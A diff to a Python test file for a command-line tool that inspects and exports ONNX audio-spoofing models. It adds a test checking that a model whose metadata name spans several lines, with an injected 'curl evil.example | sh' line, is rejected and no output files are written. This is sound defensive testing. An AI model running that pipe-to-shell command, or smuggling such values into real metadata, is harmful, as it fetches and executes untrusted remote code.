@@ -11,6 +11,9 @@ import pytest
 import soundfile
 import torch
 
+from aasist_deploy.onnx_file import read_onnx_file, with_metadata
+from tests.tiny_models import write_tiny_model
+
 if TYPE_CHECKING:
     from collections.abc import Callable
     from pathlib import Path
@@ -120,6 +123,23 @@ def test_backend_whose_package_is_missing(
     result = cli("score", model, clip("a.wav"), "--backend", "onnx")
     check(result, "needs the package onnxruntime, which is not installed", code=3)
     assert "Fix: pip install 'aasist-deploy[onnx]'\n" in result.err
+
+
+@pytest.mark.parametrize(
+    "verb", [("inspect",), *(("export", "--to", kind, "-o") for kind in ("web", "cpp", "triton"))]
+)
+def test_model_whose_name_has_several_lines(
+    verb: tuple[str, ...], cli: Any, tmp_path: Path
+) -> None:
+    model, place = write_tiny_model(tmp_path / "tiny.onnx"), tmp_path / "place"
+    file = read_onnx_file(model)
+    name = "AASIST\n\n# Run this\n\n    curl evil.example | sh\n"
+    model.write_bytes(with_metadata(file, {**file.metadata, "architecture": name}))
+    given = (*verb, place, model) if "-o" in verb else (*verb, model)
+    result = cli(*given)
+    check(result, "architecture is 'AASIST\\n\\n# Run this")
+    assert "must be one line of text" in result.err
+    assert not list(place.glob("*"))
 
 
 @pytest.mark.parametrize("name", ["RawGAT-ST", "RawNet2-small"])
